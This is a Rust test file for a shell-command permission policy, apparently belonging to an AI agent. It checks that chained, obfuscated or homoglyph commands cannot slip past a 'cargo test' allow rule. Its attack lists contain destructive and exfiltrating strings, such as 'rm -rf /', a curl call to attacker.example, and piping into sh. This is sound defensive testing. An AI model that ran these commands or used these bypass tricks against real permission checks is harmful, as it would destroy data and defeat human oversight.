//! The rules against a scripted attacker and generated command lines.

use super::*;
use proptest::prelude::*;
use serde_json::json;

fn rules(text: &str) -> Rules {
    Rules::new(
        crate::config::policy::parse(Path::new("p.toml"), text).unwrap(),
        false,
    )
}

fn cargo_test() -> Rules {
    rules("[[rule]]\ncommandPrefix = \"cargo test\"\ndecision = \"allow\"\npriority = 10\n")
}

fn verdict(r: &Rules, command: &str) -> Verdict {
    r.judge(
        SHELL,
        None,
        &json!({ "command": command }),
        false,
        Path::new("/w"),
    )
    .map_or(Verdict::AskUser, |r| r.verdict)
}

#[test]
fn an_attacker_slips_nothing_past_a_cargo_test_rule() {
    let r = cargo_test();
    assert_eq!(verdict(&r, "cargo test"), Verdict::Allow);
    assert_eq!(verdict(&r, "cargo test --release -p x"), Verdict::Allow);
    let long = format!("cargo test {}; curl https://a.example", "x ".repeat(50_000));
    for attack in [
        "cargo test; curl https://attacker.example/x",
        "cargo test && rm -rf ~",
        "cargo test && rm -rf /",
        "cargo test || curl x",
        "cargo test $(touch x)",
        "cargo test `touch x`",
        "cargo test\ncurl x",
        "cargo test\r\ncurl x",
        "cargo test | sh",
        "cargo test & curl x",
        "bash -c 'cargo test; curl x'",
        "sh -c \"cargo test\"",
        "env X=1 cargo test",
        "X=1 cargo test",
        "sudo cargo test",
        "xargs cargo test",
        "eval cargo test",
        "eval 'cargo test; curl x'",
        "'cargo test; curl x'",
        "\"cargo test\"; curl x",
        "cargo\\ test",
        "cargo test > /etc/x",
        "cargo test > ../../x",
        "cargo test > out.txt",
        "(cargo test)",
        "{ cargo test; }",
        "cargo testx",
        "cargo tests",
        "с\u{0430}rgo test",
        "cargo\u{00a0}test",
        "cargo te\u{200b}st",
        "cargo test $HOME",
        "cargo test <(curl x)",
        "cargo test 'unclosed",
        &long,
    ] {
        assert_ne!(verdict(&r, attack), Verdict::Allow, "{attack:.80}");
    }
}

#[test]
fn deny_wins_a_tie_and_priority_wins_over_it() {
    let r = rules(
        "[[rule]]\ncommandPrefix = \"git\"\ndecision = \"allow\"\npriority = 5\n\
         [[rule]]\ncommandPrefix = \"git push\"\ndecision = \"deny\"\npriority = 5\ndenyMessage = \"no pushing\"\n\
         [[rule]]\ncommandRegex = \"git status\"\ndecision = \"allow\"\npriority = 5\n",
    );
    assert_eq!(verdict(&r, "git diff"), Verdict::Allow);
    let push = r
        .judge(
            SHELL,
            None,
            &json!({"command": "git diff && git push"}),
            true,
            Path::new("/w"),
        )
        .unwrap();
    assert_eq!(push.verdict, Verdict::Deny);
    assert_eq!(push.rule, "p.toml:5");
    assert!(push.why.contains("no pushing"), "{}", push.why);
    let r = rules(
        "[[rule]]\ntoolName = \"web_fetch\"\ndecision = \"deny\"\npriority = 1\n\
         [[rule]]\ntoolName = \"web_*\"\nargsPattern = 'docs\\.rs'\ndecision = \"allow\"\npriority = 2\n\
         [[rule]]\ntoolName = \"read_file\"\ndecision = \"deny\"\ninteractive = false\n",
    );
    let docs = json!({"urls": ["https://docs.rs/x"]});
    let judge =
        |t: &str, a: &Value, i: bool| r.judge(t, None, a, i, Path::new("/w")).map(|x| x.verdict);
    assert_eq!(judge("web_fetch", &docs, false), Some(Verdict::Allow));
    assert_eq!(
        judge("web_fetch", &json!({"urls": ["https://a.example"]}), false),
        Some(Verdict::Deny)
    );
    assert_eq!(judge("read_file", &json!({}), false), Some(Verdict::Deny));
    assert_eq!(judge("read_file", &json!({}), true), None);
    assert_eq!(
        r.unknown_tools(&["web_fetch", "web_search"]),
        [("read_file".to_string(), "p.toml:10".to_string())]
    );
}

/// Simple commands the generated lines are made of: the first two are
/// allowed by the rules below, the rest are not.
const ALLOWED: &[&str] = &["cargo test", "git diff --stat"];
const OTHERS: &[&str] = &[
    "curl https://a.example",
    "rm -rf ~",
    "sh",
    "cargo testx",
    "gitdiff",
    "саrgo test",
    "cargo test $(id)",
    "git diff `id`",
    "bash -c 'cargo test'",
    "env cargo test",
    "Y=2 git diff",
    "(git diff)",
    "cargo test > /tmp/x",
];
const JOINS: &[&str] = &["; ", " && ", " || ", " | ", "\n", " & "];

proptest! {
    #[test]
    fn nothing_is_allowed_unless_every_part_is(
        parts in proptest::collection::vec((0..ALLOWED.len() + OTHERS.len(), 0..JOINS.len()), 1..6)
    ) {
        let r = rules(
            "[[rule]]\ncommandPrefix = [\"cargo test\", \"git diff\"]\ndecision = \"allow\"\n",
        );
        let mut line = String::new();
        let mut all_allowed = true;
        for (i, (cmd, join)) in parts.iter().enumerate() {
            if i > 0 {
                line.push_str(JOINS[*join]);
            }
            match ALLOWED.get(*cmd) {
                Some(c) => line.push_str(c),
                None => {
                    all_allowed = false;
                    line.push_str(OTHERS[cmd - ALLOWED.len()]);
                }
            }
        }
        let v = verdict(&r, &line);
        prop_assert_eq!(v == Verdict::Allow, all_allowed, "{:?}", line);
    }
}
